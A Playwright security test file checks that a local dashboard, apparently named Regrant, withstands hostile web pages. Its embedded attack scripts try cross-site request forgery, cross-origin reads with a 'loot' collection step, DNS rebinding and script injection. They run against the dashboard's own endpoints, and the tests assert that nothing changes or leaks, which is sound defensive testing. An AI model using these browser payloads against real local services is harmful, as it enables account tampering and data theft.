import { chromium, type BrowserContext, type Page } from '@playwright/test';
import { startHostileServer, type HostileServer } from './hostile-server.js';
import { Dashboard } from './pages/dashboard.js';
import { ALICE, BOB, expect, test as base, type World } from './world.js';

/** Names that lead to this machine, as a page does that rebinds its own name. */
const REBOUND = 'rebound.example';

/** A person signed in to the dashboard, who also opens a page of somebody else's in the same browser. */
interface Victim {
  readonly context: BrowserContext;
  readonly hostile: HostileServer;
  /** Opens the hostile page under an origin, and waits for it to say that it is done. */
  visit(origin: string, script: string): Promise<Page>;
}

const test = base.extend<{ readonly victim: Victim }>({
  victim: async ({ world, launchOptions }, use) => {
    let script = '';
    const hostile = await startHostileServer(
      () =>
        `<!doctype html><title>Kittens</title><body><script type="module">${script}\ndocument.title = 'done';</script>`,
    );
    const browser = await chromium.launch({
      ...launchOptions,
      args: [...(launchOptions.args ?? []), `--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`],
    });
    const context = await browser.newContext();
    const dashboard = new Dashboard(await context.newPage());
    await dashboard.signIn(world.regrant.signInLink);
    await use({
      context,
      hostile,
      async visit(origin, attack) {
        script = attack;
        const page = await context.newPage();
        await page.goto(origin);
        await expect(page).toHaveTitle('done', { timeout: 60_000 });
        return page;
      },
    });
    // Whatever was tried, the person was signed in all the time and still is.
    await dashboard.page.reload();
    await expect(dashboard.connection).toHaveText('Live');
    await browser.close();
    await hostile.close();
  },
});

const portOf = (world: World): number => Number(new URL(world.regrant.url).port);

/** Origins that are not Regrant's: another port here under both names, and a rebound name. */
const foreignOrigins = (hostile: HostileServer): readonly string[] => [
  `http://localhost:${hostile.port}/`,
  `http://127.0.0.1:${hostile.port}/`,
  `http://${REBOUND}:${hostile.port}/`,
];

/** All that could be changed, as it is on disk and as admins see it. */
async function everything(world: World): Promise<unknown> {
  const files = await Promise.all([ALICE, BOB].map((email) => world.files.text(world.idOf(email))));
  return { files, admin: await Promise.all(['/api/settings', '/api/keys'].map((path) => world.admin.get(path))) };
}

test('a page of another origin changes nothing with the session of its visitor', async ({ world, victim }) => {
  // Some hundred requests of each origin, one after the other where an answer has to be waited for.
  test.setTimeout(180_000);
  const id = world.idOf(ALICE);
  const before = await everything(world);
  const [main, others] = [
    ['localhost', '127.0.0.1'],
    ['[::1]', '0.0.0.0'],
  ].map((names) => names.map((name) => `http://${name}:${portOf(world)}`));
  const attack = `
    const routes = ${JSON.stringify([
      ['POST', `/api/accounts/${id}/refresh`, ''],
      ['POST', '/api/accounts/batch', JSON.stringify({ ids: [id], action: 'delete' })],
      ['POST', '/api/keys', JSON.stringify({ name: 'mine' })],
      ['POST', '/api/password', JSON.stringify({ current: 'x', next: 'y'.repeat(12) })],
      ['POST', '/api/pool/reload', ''],
      ['PATCH', `/api/accounts/${id}`, JSON.stringify({ proxy_disabled: true })],
      ['PATCH', '/api/settings', JSON.stringify({ auth_mode: 'off' })],
      ['DELETE', `/api/accounts/${id}`, ''],
      ['DELETE', '/api/session', ''],
    ])};
    const quiet = (promise) => promise.catch(() => undefined);
    for (const [targets, some] of [[${JSON.stringify(main)}, routes], [${JSON.stringify(others)}, routes.slice(0, 2)]])
    for (const target of targets) {
      for (const [method, path, body] of some) {
        const underWay = [];
        for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'application/json']) {
          const init = { method, credentials: 'include', headers: { 'content-type': type }, ...(body ? { body } : {}) };
          await quiet(fetch(target + path, init));
          if (method === 'POST') {
            await quiet(fetch(target + path, { ...init, mode: 'no-cors' }));
            navigator.sendBeacon(target + path, new Blob([body], { type }));
          }
        }
        await quiet(fetch(target + path, { method, credentials: 'include', headers: { 'x-regrant': '1' } }));
        for (const enctype of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
          const frame = document.createElement('iframe');
          frame.name = 'frame' + Math.random();
          document.body.append(frame);
          const form = document.body.appendChild(document.createElement('form'));
          Object.assign(form, { method: 'POST', action: target + path + '?_method=' + method, enctype, target: frame.name });
          const input = form.appendChild(document.createElement('input'));
          Object.assign(input, { name: body.slice(0, -1) + ',"a":"', value: '"}' });
          underWay.push(new Promise((resolve) => { frame.onload = resolve; }).then(() => frame.remove()));
          form.submit();
        }
        for (const tag of ['img', 'script', 'link']) {
          const element = document.createElement(tag);
          if (tag === 'link') element.rel = 'stylesheet';
          element[tag === 'link' ? 'href' : 'src'] = target + path + '?_method=' + method;
          underWay.push(new Promise((resolve) => { element.onload = element.onerror = resolve; }));
          document.body.append(element);
        }
        await Promise.race([Promise.all(underWay), new Promise((resolve) => setTimeout(resolve, 3000))]);
      }
    }`;
  for (const origin of foreignOrigins(victim.hostile)) await (await victim.visit(origin, attack)).close();
  expect(await everything(world)).toEqual(before);
});

test('a page of another origin reads nothing, by request, by element, by frame or by socket', async ({
  world,
  victim,
}) => {
  const targets = ['localhost', '127.0.0.1', '0.0.0.0'].map((name) => `http://${name}:${portOf(world)}`);
  const sockets = targets.map((target) => target.replace('http:', 'ws:'));
  const attack = `
    const loot = [];
    const within = (ms, promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, ms, 'nothing'))]);
    for (const target of ${JSON.stringify(targets)}) {
      for (const path of ['/', '/api/accounts', '/api/session', '/healthz', '/v1/models', '/socket.io/?EIO=4&transport=polling', '/metrics']) {
        for (const mode of ['cors', 'no-cors']) {
          try {
            const answer = await fetch(target + path, { credentials: 'include', mode });
            loot.push(await answer.text());
          } catch {
            // The browser or Regrant refused: that is no loot.
          }
        }
      }
      // Would show whether somebody is signed in, if it could be loaded.
      for (const path of ['/api/accounts', '/favicon.svg', '/theme.js']) {
        loot.push(await within(3000, new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve('LOADED ' + path);
          image.onerror = () => resolve('');
          image.src = target + path;
        })));
      }
      const frame = document.body.appendChild(document.createElement('iframe'));
      frame.src = target + '/';
      await within(3000, new Promise((resolve) => { frame.onload = resolve; }));
      try {
        loot.push(frame.contentDocument?.documentElement.innerHTML ?? '');
      } catch {
        // Another origin's page may not be looked into: that is no loot.
      }
    }
    for (const target of ${JSON.stringify(sockets)}) {
      loot.push(await within(3000, new Promise((resolve) => {
        const socket = new WebSocket(target + '/socket.io/?EIO=4&transport=websocket');
        socket.onmessage = ({ data }) => resolve('SOCKET ' + data);
        socket.onopen = () => resolve('SOCKET OPEN');
        socket.onerror = () => resolve('');
      })));
    }
    await fetch('/loot', { method: 'POST', body: loot.filter((text) => text !== '' && text !== 'nothing').join('\\n') });`;
  for (const origin of foreignOrigins(victim.hostile)) await (await victim.visit(origin, attack)).close();
  // One report of each page, and nothing in any.
  expect(victim.hostile.loot).toEqual(['', '', '']);
});

test('a page that has rebound its own name to Regrant gets nothing, though it is of the same origin', async ({
  world,
  victim,
}) => {
  const before = await everything(world);
  const origin = `http://${REBOUND}:${portOf(world)}`;
  const page = await victim.context.newPage();
  const first = await page.goto(`${origin}/`);
  expect(first?.status()).toBe(421);
  expect(await first?.text()).not.toContain('<html');
  // From here on the page's own origin is the rebound name with Regrant's port: no CORS stands between.
  const answers = await page.evaluate(async (id) => {
    const seen: [string, number][] = [];
    const routes = [
      ['GET', '/index.html'],
      ['GET', '/theme.js'],
      ['GET', '/api/accounts'],
      ['GET', '/healthz'],
      ['GET', '/v1/models'],
      ['GET', '/socket.io/?EIO=4&transport=polling'],
      ['POST', '/api/session'],
      ['POST', '/api/keys'],
      ['DELETE', `/api/accounts/${id}`],
      ['PATCH', '/api/settings'],
      ['GET', '/api/oauth/google/start'],
    ] as const;
    for (const [method, path] of routes) {
      const body = method === 'GET' || method === 'DELETE' ? {} : { body: '{}' };
      const headers = { 'x-regrant': '1', 'content-type': 'application/json', 'x-forwarded-host': 'localhost' };
      const answer = await fetch(path, { method, headers, ...body });
      seen.push([`${method} ${path}`, answer.status]);
    }
    const socket = await new Promise<string>((resolve) => {
      const opened = new WebSocket(`ws://${location.host}/socket.io/?EIO=4&transport=websocket`);
      opened.onopen = () => resolve('open');
      opened.onerror = () => resolve('refused');
    });
    return { seen, socket };
  }, world.idOf(ALICE));
  for (const [route, status] of answers.seen)
    expect([route, status]).toEqual([route, route.includes('socket.io') ? 400 : 421]);
  expect(answers.socket).toBe('refused');
  expect(await everything(world)).toEqual(before);
});

test('the dashboard cannot be framed, and its pages let no style or script in that is not theirs', async ({
  world,
  victim,
}) => {
  const page = await victim.context.newPage();
  const answer = await page.goto(world.regrant.url);
  const headers = answer?.headers() ?? {};
  const policy = headers['content-security-policy'] ?? '';
  expect(policy).not.toContain('unsafe');
  for (const part of ["default-src 'self'", "frame-ancestors 'none'", "base-uri 'none'", "object-src 'none'"]) {
    expect(policy).toContain(part);
  }
  expect(headers).toMatchObject({
    'x-content-type-options': 'nosniff',
    'cross-origin-opener-policy': 'same-origin',
    'cross-origin-resource-policy': 'same-origin',
    'referrer-policy': 'no-referrer',
  });
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.head.append(script);
    const style = document.createElement('style');
    style.textContent = 'body { opacity: 0.5 }';
    document.head.append(style);
    const host = document.body.appendChild(document.createElement('div'));
    host.innerHTML = '<img src="/nothing.png" onerror="window.injected = true"><b style="opacity:0.5">x</b>';
    await new Promise((resolve) => host.firstElementChild?.addEventListener('error', resolve));
    return [
      Reflect.get(window, 'injected') as unknown,
      getComputedStyle(document.body).opacity,
      getComputedStyle(host.lastElementChild!).opacity,
    ];
  });
  expect(ran).toEqual([undefined, '1', '1']);
});
